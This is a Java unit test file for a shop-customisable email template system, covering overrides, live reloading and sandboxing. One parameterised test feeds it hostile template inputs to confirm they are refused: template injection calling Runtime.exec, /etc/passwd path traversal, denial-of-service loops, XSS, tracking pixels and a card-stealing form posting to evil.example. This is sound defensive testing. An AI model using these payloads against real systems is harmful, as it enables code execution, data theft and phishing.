package prevenance.message;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import prevenance.config.Problems;

/// A shop's own templates: they take the place of the program's file by file, change while the service runs,
/// and harm nothing but themselves.
@Timeout(120)
class OwnTemplatesTest {
    private static final Path BASE = Path.of("templates");
    private static final Shops SHOPS = new Shops(ComposerTest.SHOP, Map.of("maison-lin", ComposerTest.SHOP));
    private static final String VICTIM = "en/shipped.body.html";
    private static final String GOOD = """
        {% extends "en/layout.html" %}
        {% block headline %}It is travelling{% endblock %}
        {% block happened %}<p>Your parcel is on the road.</p>{% endblock %}
        {% block doing %}<p>We watch it.</p>{% endblock %}
        {% block todo %}<p>Nothing.</p>{% endblock %}
        """;

    @TempDir
    Path own;

    private int changes;

    @BeforeEach
    void folders() throws IOException {
        Files.createDirectories(own.resolve("en"));
        Files.createDirectories(own.resolve("maison-lin/en"));
    }

    private void put(String name, String text) throws IOException {
        Path file = own.resolve(name);
        Files.createDirectories(Objects.requireNonNull(file.getParent()));
        Files.writeString(file, text);
        // A clock of the file system that stands still within a test would hide the change.
        Files.setLastModifiedTime(
                file, FileTime.from(Instant.parse("2026-11-23T08:00:00Z").plus(Duration.ofMinutes(++changes))));
    }

    private Templates load() {
        Problems problems = new Problems();
        Templates templates = Templates.open(BASE, own, SHOPS, problems);
        assertThat(problems.list()).isEmpty();
        return templates;
    }

    private static String headline(TemplateSet set) {
        return set.render(MessageKind.SHIPPED, Locale.ENGLISH, "FR", Facts.all())
                .html()
                .replaceAll("(?s).*<h1>|</h1>.*", "");
    }

    private static List<String> said(Templates templates) {
        return templates.findings().stream()
                .filter(TemplateFinding::isError)
                .map(finding -> finding.file().replaceFirst("^.*?/(?=en/|fr/|maison|layout)", "")
                        + (finding.line() == null ? "" : ":" + finding.line()) + " " + finding.what())
                .toList();
    }

    @Test
    void aFileOfTheShopsTakesThePlaceOfTheProgramsAndTheRestStays() throws IOException {
        put(VICTIM, GOOD);
        Templates templates = load();
        assertThat(said(templates)).isEmpty();
        assertThat(headline(templates.of(null))).isEqualTo("It is travelling");
        assertThat(templates
                        .of(null)
                        .render(MessageKind.LOST, Locale.ENGLISH, "FR", Facts.all())
                        .html())
                .contains("Your parcel is lost");
    }

    @Test
    void eachShopHasItsOwnOverTheCommonOnes() throws IOException {
        put(VICTIM, GOOD);
        put("maison-lin/" + VICTIM, GOOD.replace("It is travelling", "Linen on the road"));
        Templates templates = load();
        assertThat(said(templates)).isEmpty();
        assertThat(headline(templates.of(null))).isEqualTo("It is travelling");
        assertThat(headline(templates.of("maison-lin"))).isEqualTo("Linen on the road");
        assertThat(headline(templates.of("gone-since"))).isEqualTo("It is travelling");
    }

    @Test
    void aChangeIsTakenUpAndABrokenOneIsRefusedWhileTheLastGoodOneStays() throws IOException {
        Templates templates = load();
        assertThat(headline(templates.of(null))).isEqualTo("Your parcel is on its way");
        put(VICTIM, GOOD);
        templates.look();
        assertThat(headline(templates.of(null))).isEqualTo("It is travelling");
        put(VICTIM, GOOD + "{% if %}");
        templates.look();
        assertThat(headline(templates.of(null))).isEqualTo("It is travelling");
        assertThat(said(templates)).singleElement().asString().startsWith("en/shipped.body.html:6 ");
        put(VICTIM, GOOD.replace("travelling", "rolling"));
        templates.look();
        assertThat(headline(templates.of(null))).isEqualTo("It is rolling");
        assertThat(said(templates)).isEmpty();
        Files.delete(own.resolve(VICTIM));
        templates.look();
        assertThat(headline(templates.of(null))).isEqualTo("Your parcel is on its way");
    }

    @Test
    void aBrokenOneAtTheStartLeavesTheProgramsInItsPlaceAndTheOthersInUse() throws IOException {
        put(VICTIM, GOOD + "{{ parcel.colour }}");
        put("en/lost.subject.txt", "Your parcel cannot be found\n");
        Templates templates = load();
        assertThat(headline(templates.of(null))).isEqualTo("Your parcel is on its way");
        assertThat(templates
                        .of(null)
                        .render(MessageKind.LOST, Locale.ENGLISH, "FR", Map.of())
                        .subject())
                .isEqualTo("Your parcel cannot be found");
        assertThat(said(templates))
                .anyMatch(finding -> finding.startsWith("en/shipped.body.html:6 prints parcel.colour"));
    }

    @Test
    void aLayoutThatLeavesOutHowToReachTheShopIsRefused() throws IOException {
        put("en/layout.html", Files.readString(BASE.resolve("en/layout.html")).replace("{{ shop.email }}", "us"));
        Templates templates = load();
        assertThat(said(templates)).anyMatch(finding -> finding.contains("does not say how to reach the shop"));
        assertThat(templates
                        .of(null)
                        .render(MessageKind.LOST, Locale.ENGLISH, "FR", Map.of())
                        .html())
                .contains("bonjour@boutique.example");
    }

    @Test
    void aTemplateThatLeavesOutAPartIsRefused() throws IOException {
        for (String part : List.of("happened", "doing", "todo")) {
            put(VICTIM, GOOD.replaceAll("\\{% block " + part + " %}.*", ""));
            Templates templates = load();
            if (part.equals("happened")) {
                assertThat(said(templates)).first().asString().contains("does not say what happened");
            }
            assertThat(said(templates)).isNotEmpty();
            assertThat(headline(templates.of(null))).isEqualTo("Your parcel is on its way");
        }
        put(VICTIM, GOOD + "{% block next %}{% endblock %}");
        assertThat(said(load())).first().asString().contains("does not say when the customer hears from us next");
    }

    @Test
    void aFurtherLanguageIsUsedOnlyWhenItIsComplete() throws IOException {
        put("de/shipped.subject.txt", "Ihr Paket ist unterwegs\n");
        Templates templates = load();
        assertThat(templates.of(null).languages()).containsExactly("en", "fr");
        assertThat(templates.findings())
                .anyMatch(finding -> finding.file().endsWith("de/lost.body.txt")
                        && finding.what().equals("is missing"));
    }

    static List<String> attacks() {
        return List.of(
                "{{ kind.getClass() }}",
                "{{ kind.class }}",
                "{{ shop.getClass().forName('java.lang.Runtime') }}",
                "{{ kind.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id') }}",
                "{{ (1).TYPE }}",
                "{{ (1).TYPE.forName('java.lang.Runtime') }}",
                "{{ kind.toUpperCase() }}",
                "{{ kind.bytes }}",
                "{{ otherParcels.clear() }}",
                "{{ otherParcels.class }}",
                "{{ parcel.delete() }}",
                "{{ shop.put('email', 'x') }}",
                "{{ beans }}",
                "{{ request }}",
                "{{ locale }}",
                "{{ template }}",
                "{{ _context }}",
                "{% include '/etc/passwd' %}",
                "{% include '../../../../etc/passwd' %}",
                "{% include 'file:///etc/passwd' %}",
                "{% include 'en/shipped.body.html' %}",
                "{% include kind %}",
                "{% include ['layout.html'] %}",
                "{% extends '/etc/passwd' %}",
                "{% import 'layout.html' %}",
                "{% from 'layout.html' import x %}",
                "{% embed 'layout.html' %}{% endembed %}",
                "{% macro again() %}{{ again() }}{% endmacro %}{{ again() }}",
                "{% set a = 'x' %}{% set a = a ~ a %}",
                "{{ 'a' ~ 'b' }}",
                "{{ 'a' + 'b' }}",
                "{{ 'a' | replace({'a': 'aaaaaaaa'}) | replace({'a': 'aaaaaaaa'}) }}",
                "{% for i in range(1, 100000000) %}x{% endfor %}",
                "{% for i in 1..100000000 %}x{% endfor %}",
                "{% for a in " + list(40) + " %}".repeat(1) + nested(6) + "{% endfor %}",
                "{% cache 'x' %}{% endcache %}",
                "{% parallel %}{% endparallel %}",
                "{% flush %}",
                "{{ kind | raw }}",
                "{% autoescape false %}{{ kind }}{% endautoescape %}",
                "{{ kind | base64decode }}",
                "{{ kind | sha256 }}",
                "{{ i18n('x', 'y') }}",
                "{% filter upper %}x{% endfilter %}",
                "{% block a %}{{ block('a') }}{% endblock %}",
                "{{ block('happened') }}".repeat(30),
                "<script>alert(1)</script>",
                "<img src=\"https://pixel.example/open.gif\" alt=\"\">",
                "<p style=\"background:url(https://pixel.example/x)\">x</p>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<form action=\"https://evil.example\"><input name=\"card\"></form>");
    }

    private static String list(int size) {
        return "[" + "1, ".repeat(size - 1) + "1]";
    }

    private static String nested(int depth) {
        return ("{% for b in " + list(40) + " %}").repeat(depth) + "{% endfor %}".repeat(depth);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void whatATemplateOfWordsDoesNotNeedIsRefusedAndBlocksNoOtherMail(String attack) throws IOException {
        put(VICTIM, GOOD.replace("We watch it.", "We watch it." + attack));
        long start = System.nanoTime();
        Templates templates = load();
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(20));
        assertThat(templates.findings())
                .isNotEmpty()
                .allSatisfy(finding -> assertThat(finding.toString())
                        .contains("en/shipped.body.html")
                        .doesNotContain("root:"));
        assertThat(headline(templates.of(null))).isEqualTo("Your parcel is on its way");
        assertThat(templates
                        .of(null)
                        .render(MessageKind.LOST, Locale.ENGLISH, "FR", Map.of())
                        .html())
                .contains("Your parcel is lost");
    }

    @Test
    void whatWorksButShouldBeSeenToIsAWarning() throws IOException {
        put(VICTIM, GOOD);
        put(
                "en/lost.subject.txt",
                "Your parcel is lost, which should not have happened, and we are truly sorry about it,"
                        + " but there are two ways to go on from here\n");
        Templates templates = load();
        assertThat(templates.findings()).noneMatch(TemplateFinding::isError);
        assertThat(templates.findings())
                .extracting(TemplateFinding::what)
                .containsExactly(
                        "is the shop's own, but en/shipped.body.txt is not and still says what ours does",
                        "the subject has 127 letters");
        assertThat(headline(templates.of(null))).isEqualTo("It is travelling");
    }

    @Test
    void aFolderThatIsTheProgramsOwnHoldsNothingOfTheShops() {
        Problems problems = new Problems();
        assertThat(Templates.load(BASE, BASE.resolve("../templates"), SHOPS, problems)
                        .findings())
                .isEmpty();
    }

    @Test
    void aFileThatLeadsOutOfTheFolderIsNotRead(@TempDir Path elsewhere) throws IOException {
        Path secret = Files.writeString(elsewhere.resolve("secret.txt"), "secret");
        Files.createSymbolicLink(own.resolve("en/lost.subject.txt"), secret);
        Templates templates = load();
        assertThat(said(templates)).containsExactly("en/lost.subject.txt is no file of this folder");
        assertThat(templates
                        .of(null)
                        .render(MessageKind.LOST, Locale.ENGLISH, "FR", Map.of())
                        .subject())
                .doesNotContain("secret");
    }
}
